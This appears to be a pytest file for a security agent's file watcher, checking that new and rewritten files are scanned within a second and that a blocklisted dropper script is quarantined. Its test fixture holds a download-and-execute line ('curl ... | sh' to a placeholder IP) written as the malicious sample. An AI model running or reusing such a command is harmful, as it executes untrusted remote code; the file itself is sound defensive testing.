"""On-write watching with inotify: dropped and rewritten files decided within a second."""

from __future__ import annotations

import datetime as dt
import hashlib
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.decision import DecisionContext, Verdict
from agent.model import load_bundle
from agent.protect.quarantine import Quarantine
from agent.protect.scan import Scanner, ScanResult
from agent.protect.watch import Watcher

NOW = dt.datetime(2026, 11, 1, 12, 0, tzinfo=dt.UTC)
EVIL = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


class Running:
    def __init__(self, folder: Path, scanner: Scanner, quarantine: Quarantine) -> None:
        self.results: list[tuple[float, ScanResult]] = []
        self.quarantine = quarantine
        self.watcher = Watcher([folder], clock=lambda: NOW, quarantine=quarantine, debounce_s=0.1)
        self.scanner = scanner
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.watcher.run, args=(self.decide, self.stop))

    def decide(self, path: str) -> ScanResult:
        result = self.scanner.scan_file(path)
        self.results.append((time.monotonic(), result))
        return result

    def wait_for(self, n: int, timeout_s: float = 5.0) -> list[tuple[float, ScanResult]]:
        deadline = time.monotonic() + timeout_s
        while len(self.results) < n:
            assert time.monotonic() < deadline, f"{len(self.results)} decisions, expected {n}"
            time.sleep(0.01)
        return self.results


@pytest.fixture
def running(tmp_path: Path, bundles: dict[int, Path]) -> Iterator[Running]:
    folder = tmp_path / "incoming"
    (folder / "sub").mkdir(parents=True)
    ctx = DecisionContext(
        block_threshold=1.1, blocklist=frozenset({hashlib.sha256(EVIL).hexdigest()})
    )
    r = Running(folder, Scanner(load_bundle(bundles[1]), ctx), Quarantine(tmp_path / "q"))
    r.folder = folder  # type: ignore[attr-defined]
    r.thread.start()
    time.sleep(0.2)  # the observer's watches are in place
    yield r
    r.stop.set()
    r.thread.join(10)
    assert not r.thread.is_alive()


def test_dropped_file_is_decided_within_a_second(running: Running) -> None:
    target = running.folder / "sub" / "new.bin"  # type: ignore[attr-defined]
    written = time.monotonic()
    target.write_bytes(b"\x7fELF" + bytes(range(256)) * 8)
    [(at, result)] = running.wait_for(1)
    assert result.path == str(target) and result.decision is not None
    assert at - written < 1.0


def test_rewritten_file_is_decided_again(running: Running) -> None:
    target = running.folder / "a.txt"  # type: ignore[attr-defined]
    target.write_bytes(b"first")
    running.wait_for(1)
    target.write_bytes(b"second version")
    results = running.wait_for(2)
    assert [r.size for _, r in results] == [5, 14]


def test_file_written_in_chunks_is_decided_once(running: Running) -> None:
    target = running.folder / "big.bin"  # type: ignore[attr-defined]
    with target.open("wb") as fh:
        for _ in range(5):
            fh.write(b"x" * 4096)
            fh.flush()
            time.sleep(0.01)
    running.wait_for(1)
    time.sleep(0.3)
    assert len(running.results) == 1 and running.results[0][1].size == 5 * 4096


def test_blocklisted_file_dropped_in_is_quarantined(running: Running) -> None:
    target = running.folder / "dropper.sh"  # type: ignore[attr-defined]
    target.write_bytes(EVIL)
    [(_, result)] = running.wait_for(1)
    assert result.decision is not None and result.decision.verdict is Verdict.BLOCKLISTED
    deadline = time.monotonic() + 5
    while target.exists() or running.watcher.stats.quarantined < 1:
        assert time.monotonic() < deadline, "not quarantined"
        time.sleep(0.01)
    [record] = running.quarantine.list()
    assert record.original_path == str(target)
